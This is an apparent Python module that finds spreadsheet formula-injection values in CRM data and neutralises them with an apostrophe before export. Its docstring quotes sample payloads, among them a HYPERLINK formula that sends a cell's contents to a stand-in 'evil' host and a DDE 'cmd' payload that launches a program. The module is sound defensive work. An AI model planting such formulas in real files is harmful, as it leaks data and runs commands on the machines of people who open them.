"""Formula injection: text that a spreadsheet would run as a formula when a file is opened.

A CRM value such as `=HYPERLINK("http://evil/?"&A1,"click")`, `+cmd|' /C calc'!A0` or
`@SUM(1+1)` is harmless in the warehouse but runs in Excel, LibreOffice or Google Sheets as soon
as someone opens an export holding it (OWASP "CSV injection"). Cells starting with `=`, `+`, `-`,
`@`, a tab or a carriage return are formulas to a spreadsheet. A number is not a risk and must
stay a number: a phone `+44 20 7946 0000` or an amount `-12.50` (digits, spaces and `().-/`
only) is left alone, and so is a value of those characters alone (`-`, a common "none").

- `formula_like`: which values would run, for flagging them in staging (`formula_hits` per
  column, as columns are made; `named_hits` names them per row);
- `spreadsheet_safe`: a frame fit for a CSV or Excel file, every formula-like text value
  prefixed with an apostrophe (shown as text, never evaluated). Every CSV or Excel file the
  pipeline writes for people to open goes through it.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

from hygiene_pipeline.domain.column_ops import arrow_flags, arrow_strings

FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
_STARTS_LIKE_FORMULA = r"^[=+\-@\t\r][=+\-@\s]*[^=+\-@\s]"
_NUMBER_SHAPED = r"^[+\-]?[\d\s().\-/]*\d[\d\s().\-/]*$"
NEUTRALISING_PREFIX = "'"


def formula_like(values: pd.Series) -> pd.Series:
    """Whether each value starts like a spreadsheet formula and is not just a number."""
    try:
        text = arrow_strings(values)
    except (pa.ArrowInvalid, pa.ArrowTypeError):  # not only text: read every value as text
        text = arrow_strings(values.astype("string").to_numpy(dtype=object, na_value=None))
    starts = arrow_flags(pc.match_substring_regex(text, _STARTS_LIKE_FORMULA))
    if not starts.any():
        return pd.Series(starts, index=values.index)
    number = arrow_flags(pc.match_substring_regex(text, _NUMBER_SHAPED))
    return pd.Series(starts & ~number, index=values.index)


def formula_hits(
    columns: Iterable[tuple[str, pd.Series]], skip: set[str] | frozenset[str]
) -> dict[str, np.ndarray]:
    """Where each text column not in `skip` holds a formula-like value, for the columns that
    hold any: judged column by column, so a caller can judge columns as they are made."""
    hits: dict[str, np.ndarray] = {}
    for column, values in columns:
        if column in skip or not pd.api.types.is_string_dtype(values.dtype):
            continue
        hit = formula_like(values).to_numpy()
        if hit.any():
            hits[column] = hit
    return hits


def named_hits(hits: Mapping[str, np.ndarray], order: Iterable[str], index: pd.Index) -> pd.Series:
    """Per row, the names of the columns of `hits` that hit there, in `order` ('; '-joined,
    None for a row without any)."""
    names = np.full(len(index), "", dtype=object)
    for column in order:
        if column in hits:
            hit = hits[column]
            names[hit] = names[hit] + column + "; "
    joined = pd.Series(names, index=index, dtype="object").str.removesuffix("; ")
    return joined.where(joined != "", None)


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose formula-like text values are prefixed with an apostrophe."""
    safe = frame.copy()
    for column in safe.columns:
        if not pd.api.types.is_string_dtype(safe[column].dtype):
            continue
        hit = formula_like(safe[column])
        if hit.any():
            safe.loc[hit, column] = NEUTRALISING_PREFIX + safe.loc[hit, column].astype(str)
    return safe
